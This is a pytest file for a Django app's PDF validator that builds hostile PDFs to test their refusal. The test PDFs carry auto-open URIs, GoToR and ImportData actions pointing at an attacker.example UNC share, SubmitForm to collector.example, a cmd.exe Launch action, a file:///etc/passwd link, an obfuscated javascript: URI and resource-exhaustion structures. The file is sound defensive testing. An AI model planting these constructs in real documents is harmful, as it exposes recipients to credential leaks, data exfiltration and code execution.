"""Active content in PDFs: every action that reaches outside the document or runs code is refused.

The hostile PDFs are built here with pypdf, one small mutation of a plain letter each, so each
test names exactly the construct it proves is found.
"""

from __future__ import annotations

import io
import time
from collections.abc import Callable

import pytest
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from requests_chat import documents
from requests_chat.documents import InvalidDocument, check_pdf
from requests_chat.models import Document, Request

from .conftest import stored_files, upload

Mutation = Callable[[PdfWriter], None]


def n(name: str) -> NameObject:
    return NameObject(name)


def action(kind: str, **entries: object) -> DictionaryObject:
    """An action dictionary: action("/URI", URI="https://…") → << /S /URI /URI (…) >>."""
    result = DictionaryObject({n("/Type"): n("/Action"), n("/S"): n(kind)})
    for key, value in entries.items():
        result[n(f"/{key}")] = value  # type: ignore[assignment]
    return result


def text(value: str) -> TextStringObject:
    return TextStringObject(value)


def hostile_pdf(*mutations: Mutation, pages: int = 1) -> bytes:
    """A one-page letter with text, changed by each mutation before it is written."""
    writer = PdfWriter()
    for number in range(pages):
        page = writer.add_blank_page(612, 792)
        stream = DecodedStreamObject()
        stream.set_data(f"BT /F1 12 Tf 72 700 Td (Letter page {number + 1}) Tj ET".encode())
        page[n("/Contents")] = writer._add_object(stream)
    for mutate in mutations:
        mutate(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def rect() -> ArrayObject:
    return ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])


def add_annotation(subtype: str, **entries: object) -> Mutation:
    def mutate(writer: PdfWriter) -> None:
        annotation = DictionaryObject(
            {n("/Type"): n("/Annot"), n("/Subtype"): n(subtype), n("/Rect"): rect()}
        )
        for key, value in entries.items():
            annotation[n(f"/{key}")] = value  # type: ignore[assignment]
        page = writer.pages[0]
        page[n("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return mutate


def open_action(value: DictionaryObject) -> Mutation:
    def mutate(writer: PdfWriter) -> None:
        writer._root_object[n("/OpenAction")] = writer._add_object(value)

    return mutate


def link(value: DictionaryObject) -> Mutation:
    return add_annotation("/Link", A=value)


def acroform(**entries: object) -> Mutation:
    def mutate(writer: PdfWriter) -> None:
        form = DictionaryObject({n("/Fields"): ArrayObject()})
        for key, value in entries.items():
            form[n(f"/{key}")] = value  # type: ignore[assignment]
        writer._root_object[n("/AcroForm")] = writer._add_object(form)

    return mutate


def button_field(value: DictionaryObject) -> Mutation:
    """A push button (a form field that is also its widget annotation) with an /A action."""

    def mutate(writer: PdfWriter) -> None:
        widget = writer._add_object(
            DictionaryObject(
                {
                    n("/Type"): n("/Annot"),
                    n("/Subtype"): n("/Widget"),
                    n("/FT"): n("/Btn"),
                    n("/Ff"): NumberObject(65536),
                    n("/T"): text("send"),
                    n("/Rect"): rect(),
                    n("/A"): value,
                }
            )
        )
        writer.pages[0][n("/Annots")] = ArrayObject([widget])
        writer._root_object[n("/AcroForm")] = writer._add_object(
            DictionaryObject({n("/Fields"): ArrayObject([widget])})
        )

    return mutate


UNC = text("\\\\attacker.example\\share\\x.pdf")

HOSTILE = {
    "open-action-uri": (
        open_action(action("/URI", URI=text("https://tracker.example/open"))),
        "open a web address by themselves",
    ),
    "open-action-goto-r-unc": (
        open_action(action("/GoToR", F=UNC, D=ArrayObject([NumberObject(0), n("/Fit")]))),
        "GoToR",
    ),
    "link-goto-r-unc": (link(action("/GoToR", F=UNC)), "GoToR"),
    "link-goto-e": (link(action("/GoToE", F=UNC)), "GoToE"),
    "link-launch": (link(action("/Launch", F=text("cmd.exe"))), "launch actions"),
    "link-file-uri": (link(action("/URI", URI=text("file:///etc/passwd"))), "“file:”"),
    "link-unc-uri": (link(action("/URI", URI=UNC)), "file or network path"),
    "link-javascript-uri": (
        link(action("/URI", URI=text(" java\tscript:alert(1)"))),
        "“javascript:”",
    ),
    "link-submit-form": (
        link(action("/SubmitForm", F=text("https://collector.example/"))),
        "SubmitForm",
    ),
    "button-submit-form": (
        button_field(action("/SubmitForm", F=text("https://collector.example/"))),
        "SubmitForm",
    ),
    "button-import-data": (button_field(action("/ImportData", F=UNC)), "ImportData"),
    "link-rich-media-execute": (link(action("/RichMediaExecute")), "RichMediaExecute"),
    "link-rendition": (link(action("/Rendition", OP=NumberObject(0))), "Rendition"),
    "link-sound": (link(action("/Sound")), "Sound"),
    "link-movie": (link(action("/Movie")), "Movie"),
    "link-thread-in-other-file": (link(action("/Thread", F=UNC)), "Thread"),
    "rich-media-annotation": (add_annotation("/RichMedia"), "RichMedia"),
    "screen-annotation": (add_annotation("/Screen"), "Screen"),
    "3d-annotation": (add_annotation("/3D"), "3D"),
    "xfa-with-script": (
        acroform(
            XFA=ArrayObject(
                [
                    text("template"),
                    text('<template><script contentType="application/x-javascript">'),
                ]
            )
        ),
        "XFA",
    ),
    # A harmless first action whose /Next chain ends in a remote go-to.
    "next-chain-goto-r": (
        link(
            action(
                "/GoTo",
                D=ArrayObject([NumberObject(0), n("/Fit")]),
                Next=ArrayObject([action("/Named", N=n("/NextPage")), action("/GoToR", F=UNC)]),
            )
        ),
        "GoToR",
    ),
    "open-action-next-uri": (
        open_action(
            action(
                "/GoTo",
                D=ArrayObject([NumberObject(0), n("/Fit")]),
                Next=action("/URI", URI=text("https://tracker.example/open")),
            )
        ),
        "open a web address by themselves",
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_it_refuses_active_content_naming_what_was_found(kind):
    mutation, reason = HOSTILE[kind]
    with pytest.raises(InvalidDocument, match=reason):
        check_pdf(hostile_pdf(mutation), name="letter.pdf")


HARMLESS = {
    # A link the reader clicks: the viewer shows where it goes (and usually asks) before it
    # opens a browser, the same as a link typed into the chat message.
    "web-link": link(action("/URI", URI=text("https://www.example.org/prior-auth"))),
    "mail-link": link(action("/URI", URI=text("mailto:office@example.org"))),
    "internal-link": link(action("/GoTo", D=ArrayObject([NumberObject(0), n("/Fit")]))),
    "open-at-page": open_action(action("/GoTo", D=ArrayObject([NumberObject(0), n("/Fit")]))),
    "named-action": link(action("/Named", N=n("/Print"))),
    "plain-form": acroform(),
}


@pytest.mark.parametrize("kind", list(HARMLESS))
def test_it_accepts_ordinary_links_and_navigation(kind):
    assert check_pdf(hostile_pdf(HARMLESS[kind])).page_count == 1


def test_a_cyclic_action_chain_ends_the_walk():
    def cycle(writer: PdfWriter) -> None:
        first = writer._add_object(action("/GoTo", D=ArrayObject([NumberObject(0), n("/Fit")])))
        second = writer._add_object(action("/Named", N=n("/NextPage"), Next=first))
        first.get_object()[n("/Next")] = second
        writer.pages[0][n("/Annots")] = ArrayObject(
            [
                writer._add_object(
                    DictionaryObject(
                        {n("/Subtype"): n("/Link"), n("/Rect"): rect(), n("/A"): first}
                    )
                )
            ]
        )

    started = time.monotonic()
    assert check_pdf(hostile_pdf(cycle)).page_count == 1
    assert time.monotonic() - started < 5


def test_an_object_graph_over_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "MAX_OBJECTS", 50)

    def many(writer: PdfWriter) -> None:
        writer._root_object[n("/Extra")] = ArrayObject(
            [writer._add_object(DictionaryObject({n("/K"): NumberObject(i)})) for i in range(200)]
        )

    with pytest.raises(InvalidDocument, match="too complex to check"):
        check_pdf(hostile_pdf(many))


def test_a_slow_walk_is_cut_off(monkeypatch):
    monkeypatch.setattr(documents, "MAX_CHECK_SECONDS", 0.0)
    with pytest.raises(InvalidDocument, match="too complex to check"):
        check_pdf(hostile_pdf(pages=3))


@pytest.mark.django_db
def test_the_upload_check_and_the_chat_refuse_it_and_store_nothing(cast, client_for, private_media):
    data = hostile_pdf(HOSTILE["open-action-goto-r-unc"][0])
    client = client_for(cast.alice)
    response = client.post(
        reverse("requests_chat:check_document"), {"document": upload(data, "unc.pdf")}
    )
    assert response.status_code == 400
    assert "GoToR" in response.json()["error"]
    chat = Request.objects.create(prescription=cast.rx_alice, created_by=cast.alice)
    response = client.post(
        reverse("requests_chat:send", args=[chat.pk]),
        {"body": "see attached", "client_id": "c1", "documents": [upload(data, "unc.pdf")]},
        headers={"HX-Request": "true"},
    )
    assert "GoToR" in response.content.decode()
    assert not Document.objects.exists()
    assert stored_files(private_media) == []


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand (pypdf refuses to write broken ones): objects 1…n, catalog first."""
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


@pytest.mark.parametrize(
    "objects",
    [
        # A page tree whose /Kids holds itself.
        (
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
        ),
        # Arrays nested 50,000 deep.
        (
            b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 50_000 + b"]" * 50_000 + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
        ),
    ],
    ids=["cyclic-page-tree", "deep-nesting"],
)
def test_hostile_structures_are_refused_quickly(objects):
    started = time.monotonic()
    with pytest.raises(InvalidDocument, match="damaged"):
        check_pdf(raw_pdf(*objects))
    assert time.monotonic() - started < 5
